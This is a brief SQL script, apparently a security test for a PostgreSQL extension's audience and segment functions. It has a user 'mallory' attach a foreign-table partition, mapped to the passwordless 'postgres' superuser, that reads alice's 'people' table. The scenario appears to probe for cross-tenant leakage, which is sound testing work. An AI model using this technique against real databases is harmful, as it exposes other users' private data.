-- A partition of mallory's that is alice's table, read through a foreign server that lets postgres in without a password.
CREATE EXTENSION postgres_fdw;
GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO mallory;
\connect - mallory
SET search_path = hostile, public;
CREATE TABLE spread (id int, n int) PARTITION BY LIST (id);
CREATE TABLE own PARTITION OF spread FOR VALUES IN (1);
SELECT attach_audience('spread', 'hostile.spread', 'id'), create_segment('Ones', '{"n": 1}', audience => 'spread');
CREATE SERVER here FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host :'host', dbname 'app');
CREATE USER MAPPING FOR PUBLIC SERVER here OPTIONS (user 'postgres');
CREATE FOREIGN TABLE stolen PARTITION OF spread DEFAULT SERVER here OPTIONS (schema_name 'alices', table_name 'people');
